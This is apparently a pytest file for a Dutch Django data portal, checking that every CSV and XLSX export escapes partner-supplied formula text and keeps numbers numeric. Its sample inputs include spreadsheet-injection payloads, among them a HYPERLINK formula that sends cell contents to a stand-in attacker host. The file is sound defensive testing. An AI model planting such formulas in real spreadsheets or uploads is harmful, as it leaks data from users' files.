"""Issue 16 item 2: no export carries a formula. Partner-supplied text (`bron`, `toelichting`) such as
`=HYPERLINK(...)`, `=1+1` or `@SUM(A1)` is written as text in every CSV and XLSX the portal makes:
the profile, trend, map and compare downloads, `export_waarden` and the API's CSV. Numbers stay numbers."""

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from indicatoren.models import Status, Waarde
from lib.tabellen import FORMULE_BEGIN, schrijf_csv, schrijf_xlsx, veilige_cel

HYPERLINK = '=HYPERLINK("http://aanvaller.example/?d="&A1,"Klik")'
SOM = "@SUM(A1)"
PLUS = "+1+1"
MIN = "-2+3"  # a formula, not a number
TAB = "\t=1+1"
CR = "\r=1+1"


@pytest.mark.django_db(False)
def test_veilige_cel_escapes_formula_text_and_keeps_numbers():
    for tekst in (HYPERLINK, SOM, PLUS, MIN, TAB, CR, "=1+1"):
        assert veilige_cel(tekst) == "'" + tekst
    for gewoon in ("Hasseler Es", "CBS, Kerncijfers wijken en buurten 2024", "", "'al veilig"):
        assert veilige_cel(gewoon) == gewoon
    # Negative numbers are numbers, also when a page wrote them as text.
    for getal in (-3.5, -1, 0, "-3", "-1,5", "+2.25", "-1e-05"):
        assert veilige_cel(getal) == getal
    assert veilige_cel(None) is None


def _xlsx_cellen(inhoud: bytes):
    boek = load_workbook(io.BytesIO(inhoud))
    return [cel for blad in boek.worksheets for rij in blad.iter_rows() for cel in rij]


def _geen_formules_xlsx(inhoud: bytes) -> list:
    cellen = _xlsx_cellen(inhoud)
    assert not [c.coordinate for c in cellen if c.data_type == "f"], "formulecellen in de XLSX"
    teksten = [c.value for c in cellen if isinstance(c.value, str)]
    assert not [t for t in teksten if t.startswith(FORMULE_BEGIN) and veilige_cel(t) != t]
    return cellen


def _geen_formules_csv(tekst: str, scheiding: str) -> list[list[str]]:
    rijen = list(csv.reader(io.StringIO(tekst.lstrip("\ufeff")), delimiter=scheiding))
    gevaarlijk = [c for rij in rijen for c in rij if c.startswith(FORMULE_BEGIN) and veilige_cel(c) != c]
    assert not gevaarlijk, f"formules in de CSV: {gevaarlijk}"
    return rijen


@pytest.mark.django_db(False)
def test_writers_escape_text_but_keep_negative_numbers_numeric(tmp_path):
    rijen = [["X", HYPERLINK, -3.5, SOM, -2], ["Y", TAB, 1326.0, CR, None]]
    uit = io.StringIO()
    schrijf_csv(rijen, uit, kolommen=["a", "b", "c", "d", "e"])
    gelezen = _geen_formules_csv(uit.getvalue(), ";")
    assert gelezen[1] == ["X", "'" + HYPERLINK, "-3,5", "'" + SOM, "-2"]
    assert gelezen[2][1:4] == ["'" + TAB, "1326", "'\n=1+1"]  # a CR in a cell is written as a line break
    pad = tmp_path / "uit.xlsx"
    schrijf_xlsx(rijen, pad, kolommen=["a", "=kop", "c", "d", "e"], titel="=titel")
    cellen = _geen_formules_xlsx(pad.read_bytes())
    waarden = [c.value for c in cellen]
    assert "'" + HYPERLINK in waarden and "'=kop" in waarden and "'=titel" in waarden
    getal = next(c for c in cellen if c.value == -3.5)
    assert getal.data_type == "n"


@pytest.fixture
def vergiftigd(db):
    """A partner-style delivery with formula text in `bron` and `toelichting` (as an upload could write)."""
    inwoners = Waarde.objects.get(indicator__code="AantalInwoners", gebied__code="WK016403", periode="2024")
    inwoners.bron = HYPERLINK
    inwoners.save(update_fields=["bron"])
    zonnestroom = Waarde.objects.get(
        indicator__code="ZonnestroomVermogenWoningen", gebied__code="BU01640300", periode="2022"
    )
    zonnestroom.bron = SOM
    zonnestroom.save(update_fields=["bron"])
    woningen = Waarde.objects.get(indicator__code="Woningvoorraad", gebied__code="WK016403", periode="2024")
    woningen.waarde, woningen.status, woningen.toelichting, woningen.bron = None, Status.ONBEKEND, "=1+1", PLUS
    woningen.save(update_fields=["waarde", "status", "toelichting", "bron"])


DOWNLOADS = [
    "/gebied/WK016403/?tabel=profiel",
    "/gebied/BU01640300/trend/ZonnestroomVermogenWoningen/?tabel=trend",
    "/kaart/?indicator=AantalInwoners&niveau=wijk&jaar=2024&tabel=kaart",
    "/kaart/?indicator=Woningvoorraad&niveau=wijk&jaar=2024&tabel=kaart",
    "/vergelijk/?gebieden=WK016403,WK016400&tabel=vergelijking",
    "/vergelijk/?gebieden=WK016403,WK016400&tabel=grafiek-wonen",
    "/combineer/?x=AantalInwoners&y=Woningvoorraad&niveau=wijk&jaar=2024&tabel=spreiding",
]


@pytest.mark.django_db
@pytest.mark.parametrize("url", DOWNLOADS)
def test_page_downloads_carry_no_formula(client, vergiftigd, url):
    csv_antwoord = client.get(url + "&formaat=csv")
    assert csv_antwoord.status_code == 200, url
    tekst = csv_antwoord.content.decode("utf-8")
    rijen = _geen_formules_csv(tekst, ";")
    xlsx_antwoord = client.get(url + "&formaat=xlsx")
    assert xlsx_antwoord.status_code == 200, url
    cellen = _geen_formules_xlsx(xlsx_antwoord.content)
    # The payload is there, as text: escaped, not dropped.
    csv_teksten = {c for rij in rijen for c in rij}
    xlsx_teksten = {c.value for c in cellen if isinstance(c.value, str)}
    verwacht = {"'" + t for t in (HYPERLINK, SOM, PLUS, "=1+1")}
    assert csv_teksten & verwacht or any(t.startswith(("'=", "'@", "'+")) for t in csv_teksten), url
    assert xlsx_teksten & verwacht or any(t.startswith(("'=", "'@", "'+")) for t in xlsx_teksten), url


@pytest.mark.django_db
def test_export_waarden_command_carries_no_formula(vergiftigd, tmp_path):
    uit = io.StringIO()
    call_command("export_waarden", "--gebied", "WK016403", stdout=uit, stderr=io.StringIO())
    rijen = _geen_formules_csv(uit.getvalue(), ";")
    assert any(r[-1] == "'" + HYPERLINK for r in rijen)
    assert any(r[-1] == "'" + PLUS for r in rijen)
    pad = tmp_path / "export.xlsx"
    call_command("export_waarden", "--gebied", "WK016403", "--format", "xlsx", "-o", str(pad), stderr=io.StringIO())
    cellen = _geen_formules_xlsx(pad.read_bytes())
    assert "'" + HYPERLINK in {c.value for c in cellen}
    inwoners = next(c for c in cellen if c.value == 11975)
    assert inwoners.data_type == "n"


@pytest.mark.django_db
def test_api_csv_carries_no_formula(client, vergiftigd):
    antwoord = client.get("/api/v1/waarden/?indicator=AantalInwoners,Woningvoorraad&gebied=WK016403&format=csv")
    assert antwoord.status_code == 200
    rijen = _geen_formules_csv(antwoord.content.decode("utf-8"), ",")
    kop = rijen[0]
    bronnen = {r[kop.index("bron")] for r in rijen[1:]}
    redenen = {r[kop.index("reden")] for r in rijen[1:]}
    assert "'" + HYPERLINK in bronnen and "'" + PLUS in bronnen and "'=1+1" in redenen
    inwoners = next(r for r in rijen[1:] if r[0] == "AantalInwoners" and r[2] == "2024")
    assert inwoners[kop.index("waarde")] == "11975"
